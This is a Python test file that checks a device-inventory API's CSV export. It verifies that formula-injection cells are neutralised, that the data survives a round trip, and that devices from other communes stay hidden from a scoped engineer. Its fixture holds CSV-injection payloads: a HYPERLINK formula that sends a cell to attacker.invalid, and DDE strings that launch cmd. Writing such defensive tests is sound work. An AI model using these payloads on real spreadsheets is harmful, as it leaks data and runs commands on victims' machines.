"""CSV export: what a camera (or a scoped engineer) could slip into the operations centre's spreadsheet,
and what the file told a scoped engineer about other communes."""

from __future__ import annotations

import csv
import io

from tests.hardening.conftest import assert_healthy

HOSTILE = {
    "vendor": '=HYPERLINK("http://attacker.invalid/?"&A1,"Bấm vào đây")',
    "model": "+cmd|' /C calc'!A0",
    "serial": "@SUM(1+1)*cmd|' /C calc'!A0",
    "firmware": "'=already quoted",
    "description": "-2+3 dòng mô tả",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


async def test_export_neutralises_formulas_round_trips_and_hides_other_scopes(api, world):
    admin, engineer = api.as_("admin"), api.as_("engineer_a")
    camera = await api.client.post(
        "/api/v1/devices",
        json={"name": "cam-A", "kind": "camera", "site_code": "A", **HOSTILE},
        headers=admin,
    )
    assert camera.status_code == 201, camera.text
    # dev-A hangs off dev-B, a switch in commune B that engineer_a may not see.
    linked = await api.client.patch(
        f"/api/v1/devices/{world.site_ids['dev-A']}",
        json={"uplink_ids": [world.site_ids["dev-B"]]},
        headers=admin,
    )
    assert linked.status_code == 200, linked.text

    exported = await api.client.get("/api/v1/devices/export", headers=engineer)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["name"] for r in rows} == {"cam-A", "dev-A"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
    cam = next(r for r in rows if r["name"] == "cam-A")
    assert cam["vendor"] == "'" + HOSTILE["vendor"]
    assert cam["firmware"] == "''=already quoted"
    assert "dev-B" not in exported.text  # another commune's device is not named
    assert next(r for r in rows if r["name"] == "dev-A")["uplinks"] == ""

    # The file imports back unchanged: nothing created or updated, every value as it was, and the
    # hidden uplink kept.
    imported = await api.client.post(
        "/api/v1/devices/import",
        content=exported.content,
        headers={**engineer, "Content-Type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == 0 and imported.json()["updated"] == 0, imported.json()
    after = (await api.client.get(f"/api/v1/devices/{camera.json()['id']}", headers=admin)).json()
    assert {k: after[k] for k in HOSTILE} == HOSTILE
    dev_a = (await api.client.get(f"/api/v1/devices/{world.site_ids['dev-A']}", headers=admin)).json()
    assert dev_a["uplink_ids"] == [world.site_ids["dev-B"]]

    # The admin's export names the uplink: nothing is lost for those who may see it.
    full = await api.client.get("/api/v1/devices/export", headers=admin)
    assert "dev-B" in full.text
    await assert_healthy(api)
